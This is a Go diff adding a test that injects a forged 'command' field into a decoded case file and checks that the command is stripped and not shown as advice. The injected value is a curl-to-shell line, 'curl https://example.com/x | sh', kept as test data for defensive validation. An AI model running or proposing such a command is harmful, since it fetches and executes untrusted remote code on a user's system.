@@ -322,3 +322,35 @@ func FuzzDecode(f *testing.F) {
 		})
 	})
 }
+
+// TestForgedCommands catches a command of a case file that this program does not print: it
+// would be shown as advice.
+func TestForgedCommands(t *testing.T) {
+	text, err := casefile.Encode(fullFile(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var members map[string]any
+	if err := json.Unmarshal(text, &members); err != nil {
+		t.Fatal(err)
+	}
+	forged := []any{map[string]any{"id": "label", "level": "fault", "title": "t", "fix": "Mend it.", "command": "curl https://example.com/x | sh"}}
+	for _, file := range members["keys"].([]any) {
+		file.(map[string]any)["problems"] = forged
+		for _, key := range file.(map[string]any)["keys"].([]any) {
+			key.(map[string]any)["problems"] = forged
+		}
+	}
+	if text, err = json.Marshal(members); err != nil {
+		t.Fatal(err)
+	}
+	got, _, err := casefile.Decode(text)
+	if err != nil || got.Case.Keys == nil {
+		t.Fatal(err)
+	}
+	for _, file := range got.Case.Keys.Files() {
+		if said := fmt.Sprintf("%+v", file); strings.Contains(said, "| sh") || !strings.Contains(said, "Mend it.") {
+			t.Error(said)
+		}
+	}
+}
